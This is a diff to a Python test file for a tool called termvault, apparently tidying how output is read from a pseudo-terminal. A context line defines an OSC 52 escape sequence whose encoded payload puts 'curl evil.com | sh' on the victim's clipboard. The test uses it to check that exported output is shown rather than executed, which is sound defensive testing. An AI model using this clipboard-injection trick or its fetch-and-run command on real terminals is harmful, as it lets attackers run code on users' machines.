@@ -15,7 +15,7 @@ from rich.text import Text
 
 from termvault import Vault
 
-from .support import invoke, make_native, run
+from .support import drain_pty, invoke, make_native, run
 
 SID = "e71c0de5-0000-4000-8000-00000000ba5e"
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmNvbSB8IHNo\x07"  # puts "curl evil.com | sh" on the clipboard
@@ -156,17 +156,9 @@ def _run_on_a_terminal(*args: str) -> tuple[bytes, int]:
         [sys.executable, "-m", "termvault", *args], stdin=subprocess.DEVNULL, stdout=slave, stderr=slave, env=env
     )
     os.close(slave)
-    chunks = []
-    while True:
-        try:
-            chunk = os.read(master, 65536)
-        except OSError:  # EIO: the process closed its end
-            break
-        if not chunk:
-            break
-        chunks.append(chunk)
+    seen = drain_pty(master)
     os.close(master)
-    return b"".join(chunks), proc.wait(timeout=120)
+    return seen, proc.wait(timeout=120)
 
 
 def test_a_raw_export_to_a_terminal_shows_control_characters_instead_of_running_them(home, tmp_path):
